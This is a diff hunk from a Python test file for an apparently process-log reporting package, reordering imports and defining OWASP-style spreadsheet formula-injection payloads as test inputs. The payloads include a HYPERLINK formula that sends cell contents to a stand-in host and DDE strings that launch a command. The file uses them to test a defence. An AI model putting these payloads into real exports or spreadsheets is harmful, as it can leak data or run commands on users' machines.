@@ -14,13 +14,13 @@ from pathlib import Path
 import polars as pl
 import pytest
 
+from o2c import example_log
+from o2c._assess import Assessment, assess
 from o2c._write import FORMULA_STARTS, replacing_folder
-from o2c.assess import Assessment, assess
 from o2c.cli import main
 from o2c.errors import OutputFolderError
 from o2c.io import read_log
 from o2c.report import _findings, _write, write_report
-from o2c.simulate import example_log
 
 #: Texts a hostile export may carry into activity names and attributes (OWASP's examples).
 PAYLOADS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0",
